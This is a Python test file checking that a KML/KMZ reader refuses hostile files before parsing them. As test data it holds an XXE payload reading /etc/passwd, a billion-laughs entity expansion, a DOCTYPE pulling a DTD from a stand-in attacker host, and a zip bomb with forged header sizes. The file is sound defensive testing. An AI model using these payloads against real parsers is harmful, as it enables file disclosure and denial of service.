"""Files that come back may be attacks: what is refused before anything is read of them."""

import struct
import tracemalloc
import zipfile
import zlib

import pytest

from aoi.outputs.kml_read import read_kml
from geo.errors import InputError

XXE = """<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>&x;</name></Document></kml>"""
LAUGHS = (
    """<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><kml>&b;</kml>"""
)
REMOTE = """<!DOCTYPE kml SYSTEM "http://198.51.100.7/evil.dtd"><kml/>"""


@pytest.mark.parametrize("text", [XXE, LAUGHS, REMOTE])
def test_entities_and_document_types_are_refused(tmp_path, text):
    (tmp_path / "x.kml").write_text(text)
    with pytest.raises(InputError, match="attacks are made of"):
        read_kml(tmp_path / "x.kml")


def test_a_bomb_in_a_kmz_is_refused_whatever_its_header_claims(tmp_path, monkeypatch):
    monkeypatch.setattr("aoi.outputs.kml_safe.LARGEST", 1 << 20)
    path = tmp_path / "x.kmz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("doc.kml", b" " * (8 << 20))
    assert path.stat().st_size < 20_000
    tracemalloc.start()
    with pytest.raises(InputError, match="no map of ours"):
        read_kml(path)
    assert tracemalloc.get_traced_memory()[1] < 4 << 20  # it never unpacked the rest
    tracemalloc.stop()
    raw = bytearray(path.read_bytes())
    small = struct.pack("<I", 10)
    for magic, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = raw.index(magic)
        raw[start + at : start + at + 4] = small
    path.write_bytes(bytes(raw))
    with pytest.raises(InputError):
        read_kml(path)


def test_too_many_files_too_deep_or_no_kml_at_all_are_refused(tmp_path, monkeypatch):
    with zipfile.ZipFile(tmp_path / "a.kmz", "w") as bundle:
        bundle.writestr("x.txt", "hello")
    with pytest.raises(InputError, match="holds no KML"):
        read_kml(tmp_path / "a.kmz")
    monkeypatch.setattr("aoi.outputs.kml_safe.MEMBERS", 0)
    with pytest.raises(InputError, match="more than 0 files"):
        read_kml(tmp_path / "a.kmz")
    (tmp_path / "b.kml").write_text("<kml>" + "<Folder>" * 200 + "</Folder>" * 200 + "</kml>")
    with pytest.raises(InputError, match="nested"):
        read_kml(tmp_path / "b.kml")
    (tmp_path / "c.kmz").write_bytes(b"PK\x03\x04" + zlib.compress(b"x"))
    with pytest.raises(InputError, match="damaged"):
        read_kml(tmp_path / "c.kmz")
    (tmp_path / "d.kml").write_bytes(b"\xff\xfe\x00rubbish")
    with pytest.raises(InputError, match="not KML"):
        read_kml(tmp_path / "d.kml")
